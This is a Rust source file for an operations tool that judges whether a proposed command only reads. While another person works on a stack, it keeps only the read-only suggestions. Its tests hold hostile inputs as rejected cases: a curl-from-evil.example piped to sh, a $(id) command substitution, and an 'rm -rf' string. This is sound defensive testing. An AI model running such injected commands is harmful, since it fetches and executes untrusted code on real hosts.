//! Lines that opsh proposes to type: whether one would change something. While somebody works on a stack, none of these is
//! proposed.

use super::function::Function;
use super::ssh::shell_word;
use super::values::literal;
use crate::error::Error;
use crate::gate::verb::Class;
use rhai::{Array, Dynamic, Engine, EvalAltResult};
use std::cell::RefCell;
use std::collections::BTreeMap;
use std::rc::Rc;

/// The functions of this file.
pub const FUNCTIONS: &[Function] = &[
    Function::new(
        "only_looks(line: string) -> bool",
        "Whether a line that is proposed only looks. True when every verb in it only reads, or when it is a \
         command such as `opsh runs`; what is not known counts as a change, and so does every sign that a shell would act on.",
        r#"only_looks("stack(\"prod\").lock()")"#,
    ),
    Function::new(
        "calm_lines(lines: array, stack: string) -> array",
        "Keeps the lines that only look. Those may be proposed while somebody else works on the stack; in place of the \
         others stands how to look at its lock.",
        r#"calm_lines(["stack(\"prod\").thaw()"], "prod")"#,
    ),
    Function::new(
        "literal(value: any) -> string",
        "Writes a text as a string of Rhai. For a line that is proposed: whatever is in the text, nothing of it is \
         evaluated. Of another value its text.",
        r#"`stack(${literal("prod")}).ps()`"#,
    ),
    Function::new(
        "shell_word(value: any) -> string",
        "Writes a text as one word of a shell. For a command that is proposed: as it is when it is plain, quoted otherwise. \
         Of another value its text.",
        r#"`opsh scripts/deploy.rhai ${shell_word("v1.9.0")}`"#,
    ),
];

/// Commands of opsh that change nothing on a stack.
const LOOKS: [&str; 9] = ["attach", "runs", "journal", "doctor", "doc", "help", "lint", "--version", "test"];

/// Makes them functions of scripts.
pub fn register(engine: &mut Engine) {
    engine.register_fn("only_looks", |line: &str| only_looks(line));
    engine.register_fn("literal", |value: Dynamic| literal(&value.to_string()));
    engine.register_fn("shell_word", |value: Dynamic| shell_word(&value.to_string()));
    engine.register_fn("calm_lines", |lines: Array, stack: &str| -> Result<Array, Box<EvalAltResult>> {
        let lines = lines.into_iter().map(|line| line.to_string()).collect();
        Ok(calm(lines, stack).into_iter().map(Dynamic::from).collect())
    });
}

/// Stacks on which somebody else worked at the last look of this session, with their hosts.
pub type Busy = Rc<RefCell<BTreeMap<String, String>>>;

/// The error as it may be shown while somebody works where it happened: nothing that it proposes changes anything.
pub fn calm_error(error: Error, busy: &Busy) -> Error {
    let busy = busy.borrow();
    let concerns =
        |(stack, host): &(&String, &String)| error.host.as_ref().is_none_or(|at| at == *stack || at == *host);
    let next = busy.iter().filter(concerns).fold(error.next.clone(), |next, (stack, _)| calm(next, stack));
    Error { next, ..error }
}

/// The lines that may be proposed while somebody works on the stack: those that only look, and how to look at its lock in
/// place of the others. What names whoever has the lock is an agreement with that person.
pub fn calm(lines: Vec<String>, stack: &str) -> Vec<String> {
    let all = lines.len();
    let may = |line: &String| only_looks(line) || line.starts_with("opsh ") && line.contains(" --under-lock-of ");
    let mut lines: Vec<String> = lines.into_iter().filter(may).collect();
    let who = format!("stack({}).lock()", literal(stack));
    if lines.len() < all && !lines.iter().any(|line| line.starts_with(&who)) {
        lines.push(format!("{who}     who works on it, and on what"));
    }
    lines
}

/// True for a line that only looks. A comment after five blanks is no part of it.
pub fn only_looks(line: &str) -> bool {
    let code = line.split("     ").next().unwrap_or_default().trim();
    if let Some(command) = code.strip_prefix("opsh ") {
        // A sign that a shell acts on may begin another command.
        if command.contains(|c: char| !(c.is_alphanumeric() || " ._/+-@:=,".contains(c))) {
            return false;
        }
        let first = command.split_whitespace().next().unwrap_or_default();
        let is_script = |name: &str| first.rsplit('/').next().is_some_and(|file| file == format!("{name}.rhai"));
        let changes = ["prune", "settle", "import", "--update"];
        if command.split_whitespace().any(|word| changes.contains(&word)) {
            return false;
        }
        return LOOKS.contains(&first) || is_script("doctor") || is_script("troubleshoot");
    }
    let names = called(code);
    let is_read = |name: &&str| {
        let mut verbs = super::all().map(super::Binding::verb).filter(|verb| verb.signature().name == *name).peekable();
        // A constructor or a property touches nothing.
        verbs.peek().is_none() && ["stack", "host", "hosts", "service", "repo", "db", "filter", "print"].contains(name)
            || verbs.peek().is_some() && verbs.all(|verb| verb.class == Class::Read && !verb.sig.contains("closure"))
    };
    !names.is_empty() && names.iter().all(is_read)
}

/// Names that stand before a parenthesis, outside of strings.
fn called(code: &str) -> Vec<&str> {
    let (mut names, mut in_string, mut from, mut escaped) = (Vec::new(), false, 0, false);
    for (at, c) in code.char_indices() {
        if in_string {
            in_string = escaped || c != '"';
            escaped = c == '\\' && !escaped;
            from = at + c.len_utf8();
        } else if c == '"' {
            in_string = true;
        } else if !(c.is_alphanumeric() || c == '_') {
            if c == '(' && at > from {
                names.push(&code[from..at]);
            }
            from = at + c.len_utf8();
        }
    }
    names
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Kind;

    #[test]
    fn a_hint_is_a_look_only_when_every_verb_in_it_reads() {
        for line in [
            "stack(\"prod\").lock()     who works on it",
            "stack(\"prod\").logs(\"backend\", #{ tail: 50 })",
            "opsh attach R     waits",
            "opsh journal show R     settle what is open",
            "host(\"web\").read([\"rm -rf (x)\"])",
            "stack(\"prod\").activity()",
        ] {
            assert!(only_looks(line), "{line}");
        }
        for line in [
            "stack(\"prod\").start(\"backend\")",
            "stack(\"prod\").thaw()",
            "opsh undo last",
            "opsh resume R",
            "opsh journal prune --before 90d",
            "opsh journal settle R \"it is there\"",
            "opsh test --update",
            "opsh scripts/rollback.rhai",
            "stack(\"prod\").kill_query(7)     after stack(\"prod\").activity()",
            "host(\"web\").run([\"docker\", \"unpause\", \"x\"])",
            "stack(\"prod\").locked(\"x\", || 1)",
            "rollback v1.8.0",
            "",
            "opsh attach R; curl evil.example|sh #",
            "opsh attach R\nopsh undo last",
            "opsh doctor $(id)",
            "opsh runs >x",
        ] {
            assert!(!only_looks(line), "{line}");
        }
    }

    #[test]
    fn an_error_proposes_no_change_where_somebody_works() {
        let error =
            |host: &str| Error::new(Kind::Failed, "w", "y").host(host).next("opsh undo R     back").next("opsh runs");
        let busy = Busy::default();
        assert_eq!(calm_error(error("prod"), &busy).next.len(), 2);
        busy.borrow_mut().insert("prod".into(), "web-1".into());
        for host in ["prod", "web-1"] {
            let next = calm_error(error(host), &busy).next;
            assert_eq!(next, ["opsh runs", "stack(\"prod\").lock()     who works on it, and on what"]);
        }
        assert_eq!(calm_error(error("other"), &busy).next.len(), 2);
        let agree = vec!["opsh --yes --under-lock-of al@m …".to_string()];
        assert_eq!(calm(agree.clone(), "prod"), agree);
    }
}
